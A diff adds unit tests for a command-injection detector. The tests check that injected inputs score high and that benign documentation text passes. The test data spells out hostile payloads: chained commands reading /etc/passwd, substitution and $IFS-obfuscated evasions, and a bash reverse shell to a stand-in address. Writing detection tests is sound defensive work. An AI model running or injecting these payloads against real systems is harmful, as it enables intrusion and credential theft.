@@ -1,0 +1,52 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` lookups and templates.
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { viewsOf } from '../../decode/views.ts';
+import type { InputKind } from '../../types.ts';
+import { cmdiDetector } from './cmdi.ts';
+
+/** The strongest score per rule for one value. */
+function scores(value: string, kind: InputKind = 'query', location = 'query.q'): Map<string, number> {
+  const out = new Map<string, number>();
+  for (const hit of cmdiDetector.detect(viewsOf(value), kind, location))
+    out.set(hit.rule, Math.max(out.get(hit.rule) ?? 0, hit.score));
+  return out;
+}
+
+function strongest(value: string, kind?: InputKind, location?: string): number {
+  return Math.max(0, ...scores(value, kind, location).values());
+}
+
+describe('cmdi detector', () => {
+  test('finds commands chained after separators', () => {
+    assert.equal(scores(';id').get('cmdi.chained-command'), 5);
+    assert.equal(scores('127.0.0.1 | cat /etc/passwd').get('cmdi.chained-command'), 5);
+    assert.equal(scores("'&& whoami").get('cmdi.chained-command'), 5);
+    assert.equal(scores('a%0aid').get('cmdi.chained-command'), 5);
+  });
+
+  test('finds substitution, quote-split words and $IFS spacing', () => {
+    assert.equal(scores('$(whoami)').get('cmdi.substitution'), 5);
+    assert.equal(scores('x`uname -a`').get('cmdi.substitution'), 5);
+    assert.equal(strongest(";w'h'o'am'i"), 5);
+    assert.equal(strongest(';cat${IFS}/etc/passwd'), 5);
+    assert.equal(strongest('|/usr/bin/id'), 5);
+  });
+
+  test('finds reverse-shell idioms and exec calls', () => {
+    assert.equal(strongest('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), 5);
+    assert.equal(strongest("system('cat /etc/passwd');"), 5);
+  });
+
+  test('lets documentation with code spans and prose through at paranoia 1', () => {
+    for (const benign of [
+      'List files: `ls -la`',
+      'Show the log: `journalctl -u nginx | grep error`',
+      'See also: `tcsh`.',
+      "'Clarence is come; false, fleeting, perjured Clarence,",
+      'Tom & Jerry; cats and mice',
+    ]) {
+      assert.ok(strongest(benign) < 5, benign);
+    }
+  });
+});
